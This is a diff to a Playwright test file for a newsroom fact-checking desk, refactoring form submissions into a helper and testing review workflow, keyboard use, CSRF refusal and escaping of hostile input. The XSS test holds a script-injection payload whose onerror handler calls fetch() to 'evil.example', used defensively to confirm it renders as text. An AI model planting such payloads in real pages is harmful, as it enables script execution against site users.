@@ -23,6 +23,17 @@ According to the state transport department, truck traffic near the port rose 14
 """
 
 
+def submit(page, button) -> None:
+    """Click a form's button and wait for the page the server answers with (after its redirect)."""
+    with page.expect_navigation(wait_until="load"):
+        button.click()
+    assert page.locator("h1").count(), page.content()[:2000]
+
+
+def main_text(page) -> str:
+    return page.locator("main").inner_text()
+
+
 def first_ticket_id(desk, article_id: int) -> int:
     with Session(desk.engine) as s:
         return s.exec(select(Ticket.id).where(Ticket.article_id == article_id).order_by(Ticket.position)).first()
@@ -42,25 +53,22 @@ def test_a_reviewer_works_the_drafts_and_an_editor_sets_the_verdict(page, desk):
 
     # Approve the first suggestion, edit the second, reject the third.
     ids = [drafts.nth(i).get_attribute("id") for i in range(3)]
-    with page.expect_navigation():
-        page.locator(f"#{ids[0]}").get_by_role("button", name="Approve").click()
+    submit(page, page.locator(f"#{ids[0]}").get_by_role("button", name="Approve"))
     assert "Approved by rita" in page.locator(f"#{ids[0]}").inner_text()
     second = page.locator(f"#{ids[1]}")
     second.locator("summary", has_text="Edit").click()
     second.get_by_label("Text").fill("Did the Port of Marlow handle 2.1 million containers in 2024?")
-    with page.expect_navigation():
-        second.get_by_role("button", name="Save edit").click()
+    submit(page, second.get_by_role("button", name="Save edit"))
     assert "Edited and approved by rita" in page.locator(f"#{ids[1]}").inner_text()
-    with page.expect_navigation():
-        page.locator(f"#{ids[2]}").get_by_role("button", name="Reject").click()
+    submit(page, page.locator(f"#{ids[2]}").get_by_role("button", name="Reject"))
     assert "Rejected by rita" in page.locator(f"#{ids[2]}").inner_text()
 
     # A reviewer proposes; she is offered no verdict of her own.
     assert page.get_by_role("button", name="Save verdict").count() == 0
     page.get_by_label("corroborated").check()
     page.locator("#rationale").fill("The authority's annual report lists 2.1 million containers.")
-    with page.expect_navigation():
-        page.get_by_role("button", name="Propose to an editor").click()
+    submit(page, page.get_by_role("button", name="Propose to an editor"))
+    assert "Proposed corroborated" in main_text(page), main_text(page)[:1500]
     assert "rita proposes corroborated" in page.locator(".proposal").inner_text()
     log_out(page)
 
@@ -68,8 +76,7 @@ def test_a_reviewer_works_the_drafts_and_an_editor_sets_the_verdict(page, desk):
     assert "rita proposes corroborated" in page.locator("table.queue").inner_text()
     page.goto(f"/tickets/{ticket_id}")
     assert page.locator("#rationale").input_value().startswith("The authority's annual report")
-    with page.expect_navigation():
-        page.get_by_role("button", name="Save verdict").click()
+    submit(page, page.get_by_role("button", name="Save verdict"))
     assert page.locator(".meta .badge").inner_text() == "corroborated"
     history = page.locator("ol.history").inner_text()
     for action in ("create", "approve", "edit", "reject", "propose", "corroborate"):
@@ -101,7 +108,7 @@ def test_keyboard_walks_the_queue_and_reviews_a_draft(page, desk):
     page.keyboard.press("o")
     page.wait_for_url("**/tickets/*")
     first = page.locator("article.draft.status-proposed").first.get_attribute("id")
-    with page.expect_navigation():
+    with page.expect_navigation(wait_until="load"):
         page.keyboard.press("a")
     assert "Approved by kim" in page.locator(f"#{first}").inner_text()
     before = page.url
@@ -127,8 +134,7 @@ def test_hostile_article_and_draft_text_execute_nothing(page, desk):
     page.locator("summary", has_text="Add your own question").click()
     payload = "<img src=x onerror=\"fetch('http://evil.example/q')\"> was it <script>alert('q')</script>?"
     page.get_by_label("Question", exact=True).fill(payload)
-    with page.expect_navigation():
-        page.get_by_role("button", name="Add question").click()
+    submit(page, page.get_by_role("button", name="Add question"))
     assert payload in page.locator('section[aria-labelledby="q-h"] article.draft').last.inner_text()  # shown as text, not markup
     page.locator("summary", has_text="Add your own source").click()
     page.get_by_label("Source", exact=True).fill("A link that runs script")
@@ -168,8 +174,7 @@ def test_a_form_posted_without_its_csrf_token_is_refused(page, desk):
     form = page.locator('form[action$="/notes"]')
     form.locator('input[name="csrf_token"]').evaluate("el => el.remove()")
     form.get_by_label("Note").fill("Forged note")
-    with page.expect_navigation():
-        form.get_by_role("button", name="Add note").click()
+    submit(page, form.get_by_role("button", name="Add note"))
     assert "Not allowed" in page.locator("h1").inner_text()
     with Session(desk.engine) as s:
         assert s.exec(select(Note).where(Note.text == "Forged note")).first() is None
